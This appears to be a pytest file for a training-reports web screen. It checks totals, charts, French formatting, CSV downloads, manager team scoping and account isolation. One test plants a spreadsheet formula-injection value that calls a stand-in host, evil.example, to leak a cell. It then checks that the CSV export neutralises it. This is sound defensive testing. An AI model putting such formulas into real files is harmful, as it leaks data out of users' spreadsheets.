"""The reports' screen over HTTP, on both databases: the year's numbers as charts and tables that agree, in
English and French; a CSV per table; the account for HR and auditors, the team only for a manager."""

from __future__ import annotations

import csv
import html
import io
import re

import httpx

from talent_training.app import TalentTraining
from tests.console.conftest import Browser
from tests.reports.helpers import MANAGER, YEAR, seed

REPORTS = "/console/reports"


def table(page: httpx.Response, table_id: str) -> list[list[str]]:
    """A table's body and foot, cell by cell, as shown."""
    found = re.search(rf'<table id="{table_id}">(.*?)</table>', page.text, re.S)
    assert found is not None, f"no table {table_id}"
    body = found.group(1).split("</thead>")[1]
    return [
        [html.unescape(cell).strip() for cell in re.findall(r"<t[hd][^>]*>([^<]*)</t[hd]>", row)]
        for row in re.findall(r"<tr>(.*?)</tr>", body, re.S)
    ]


def chart(page: httpx.Response, chart_id: str) -> list[tuple[str, str]]:
    """A chart's bars: (label, value as written)."""
    found = re.search(rf'<svg[^>]*aria-labelledby="{chart_id}-title"[^>]*>(.*?)</svg>', page.text, re.S)
    assert found is not None, f"no chart {chart_id}"
    labels = re.findall(r'<text class="label"[^>]*>([^<]*)</text>', found.group(1))
    values = re.findall(r'<text class="value"[^>]*>([^<]*)</text>', found.group(1))
    return [(html.unescape(a), html.unescape(b)) for a, b in zip(labels, values, strict=True)]


def downloaded(answer: httpx.Response) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))


async def test_the_years_reports_show_the_hand_computed_numbers(
    signed_in: Browser, client: httpx.AsyncClient, app: TalentTraining
) -> None:
    await seed(client, app)
    browser = await signed_in()
    page = await browser.get(REPORTS, params={"year": YEAR})
    assert page.status_code == 200
    assert page.text.count("<h1>") == 1
    assert re.search(rf'<option value="{YEAR}" selected>', page.text)
    assert re.search(r'id="total-hours">17.75<', page.text)
    assert re.findall(r'class="total-cost">([^<]*)<', page.text) == ["130.00\xa0EUR", "50.50\xa0USD"]
    assert "60.0% (3 of 5 employees active in the year)" in html.unescape(page.text)

    assert table(page, "department-table") == [
        ["Sales", "3", "12.75", "100.00\xa0EUR", "50.50\xa0USD"],
        ["Support", "1", "4", "20.00\xa0EUR", "0.00\xa0USD"],
        ["No department", "1", "1", "10.00\xa0EUR", "0.00\xa0USD"],
        ["Total", "5", "17.75", "130.00\xa0EUR", "50.50\xa0USD"],
    ]
    # The chart beside the table draws the same numbers.
    assert chart(page, "department-hours") == [("Sales", "12.75"), ("Support", "4"), ("No department", "1")]
    assert chart(page, "department-cost-USD") == [
        ("Sales", "50.50\xa0USD"), ("Support", "0.00\xa0USD"), ("No department", "0.00\xa0USD")
    ]  # fmt: skip
    months = table(page, "month-table")
    assert [row[:3] for row in months[:3]] == [
        ["January", "1", "7"],
        ["February", "1", "4"],
        ["March", "2", "5.75"],
    ]
    assert [value for _, value in chart(page, "month-hours")] == [row[2] for row in months[:12]]
    assert table(page, "category-table")[0] == ["Safety", "3", "10.25", "110.00\xa0EUR", "0.00\xa0USD"]
    assert table(page, "provider-table")[1] == ["No provider", "2", "7.5", "20.00\xa0EUR", "50.50\xa0USD"]
    assert table(page, "staff-table") == [
        ["Sales", "3", "2", "66.7%"],
        ["No department", "1", "0", "0.0%"],
        ["Support", "1", "1", "100.0%"],
        ["Total", "5", "3", "60.0%"],
    ]
    # Each chart is one image, named, beside its table.
    assert page.text.count('role="img"') == page.text.count("<svg") == 4 * 3 + 1


async def test_in_french_numbers_and_names_are_french(
    signed_in: Browser, client: httpx.AsyncClient, app: TalentTraining
) -> None:
    await seed(client, app)
    browser = await signed_in()
    page = await browser.get(REPORTS, params={"year": YEAR, "lang": "fr"})
    assert '<html lang="fr">' in page.text
    assert re.search(r'id="total-hours">17,75<', page.text)
    assert table(page, "category-table")[0] == ["Sécurité", "3", "10,25", "110,00\xa0EUR", "0,00\xa0USD"]
    assert table(page, "staff-table")[0] == ["Sales", "3", "2", "66,7\xa0%"]
    assert "Télécharger ce tableau en CSV" in page.text


async def test_each_table_downloads_as_csv_with_every_line(
    signed_in: Browser, client: httpx.AsyncClient, app: TalentTraining
) -> None:
    ids = await seed(client, app)
    browser = await signed_in(role="auditor")
    page = await browser.get(REPORTS, params={"year": YEAR})
    for kind in ("month", "department", "category", "provider", "staff"):
        assert f'href="{REPORTS}/{kind}.csv?year={YEAR}"' in page.text
    answer = await browser.get(f"{REPORTS}/department.csv", params={"year": YEAR})
    assert answer.headers["content-disposition"] == f'attachment; filename="training-department-{YEAR}.csv"'
    assert downloaded(answer) == [
        ["departmentId", "department", "trainings", "hours", "costEUR", "costUSD"],
        ["10", "Sales", "3", "12.75", "100", "50.5"],
        ["20", "Support", "1", "4", "20", ""],
        ["", "No department", "1", "1", "10", ""],
    ]
    rows = downloaded(await browser.get(f"{REPORTS}/category.csv", params={"year": YEAR}))
    assert rows[1] == [str(ids["category"]), "Safety", "3", "10.25", "110", ""]
    rows = downloaded(await browser.get(f"{REPORTS}/month.csv", params={"year": YEAR}))
    assert (len(rows), rows[3]) == (13, [f"{YEAR}-03", "March", "2", "5.75", "", "50.5"])
    assert downloaded(await browser.get(f"{REPORTS}/staff.csv", params={"year": YEAR}))[1] == [
        "10", "Sales", "3", "2", "66.7"
    ]  # fmt: skip
    refused = await browser.get(f"{REPORTS}/staff.csv", params={"year": "next"})
    assert refused.status_code == 400


async def test_a_name_a_spreadsheet_would_run_is_downloaded_as_text(
    signed_in: Browser, client: httpx.AsyncClient, app: TalentTraining
) -> None:
    await seed(client, app)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Support")'
    renamed = await client.put("/talent-training/api/v1/departments/20", json={"name": formula})
    assert renamed.status_code == 200, renamed.text
    browser = await signed_in(role="auditor")
    for kind in ("department", "staff"):
        rows = downloaded(await browser.get(f"{REPORTS}/{kind}.csv", params={"year": YEAR}))
        assert ["20", f"'{formula}"] == next(row[:2] for row in rows if row[0] == "20")


async def test_a_manager_sees_only_their_team(
    signed_in: Browser, client: httpx.AsyncClient, app: TalentTraining
) -> None:
    await seed(client, app)
    browser = await signed_in(role="manager", email="max@example.com", employee_id=MANAGER)
    page = await browser.get(REPORTS, params={"year": YEAR})
    assert "Your team" in page.text
    assert re.search(r'id="total-hours">12.75<', page.text)  # employees 1 and 2 only
    assert table(page, "department-table") == [
        ["Sales", "3", "12.75", "100.00\xa0EUR", "50.50\xa0USD"],
        ["Total", "3", "12.75", "100.00\xa0EUR", "50.50\xa0USD"],
    ]
    assert table(page, "staff-table")[-1] == ["Total", "2", "2", "100.0%"]
    rows = downloaded(await browser.get(f"{REPORTS}/department.csv", params={"year": YEAR}))
    assert [row[1] for row in rows[1:]] == ["Sales"]
    assert "Support" not in (await browser.get(f"{REPORTS}/staff.csv", params={"year": YEAR})).text


async def test_a_manager_is_offered_the_last_ten_years_not_the_accounts_years(
    signed_in: Browser, client: httpx.AsyncClient, app: TalentTraining
) -> None:
    await seed(client, app)  # the account's records end in 2024 and 2025: HR is offered those years
    browser = await signed_in(role="manager", email="max@example.com", employee_id=MANAGER)

    page = await browser.get(REPORTS)

    this_year = int(re.findall(r'<option value="(\d+)" selected>', page.text)[0])
    options = [int(year) for year in re.findall(r'<option value="(\d+)"', page.text)]
    assert options == list(range(this_year, this_year - 10, -1))


async def test_this_year_by_default_and_a_wrong_year_is_said_next_to_the_select(
    signed_in: Browser, client: httpx.AsyncClient, app: TalentTraining
) -> None:
    await seed(client, app)
    browser = await signed_in()
    page = await browser.get(REPORTS)
    this_year = int(re.findall(r'<option value="(\d+)" selected>', page.text)[0])
    assert this_year >= 2026
    options = [int(year) for year in re.findall(r'<option value="(\d+)"', page.text)]
    assert options == list(range(this_year, 2023, -1))  # this year back to the first with records
    assert "No attended training ended in" in page.text or this_year != 2026

    wrong = await browser.get(REPORTS, params={"year": "20x5"})
    assert wrong.status_code == 200
    assert re.search(r'id="year-error">Not a year from 1900 to 2999', wrong.text)
    assert 'aria-invalid="true"' in wrong.text


async def test_another_account_s_records_are_not_counted(
    signed_in: Browser, client: httpx.AsyncClient, stranger: httpx.AsyncClient, app: TalentTraining
) -> None:
    await seed(stranger, app)  # the stranger's account, not the user's
    browser = await signed_in()
    page = await browser.get(REPORTS, params={"year": YEAR})
    assert re.search(r'id="total-hours">0<', page.text)
    assert "Sales" not in page.text
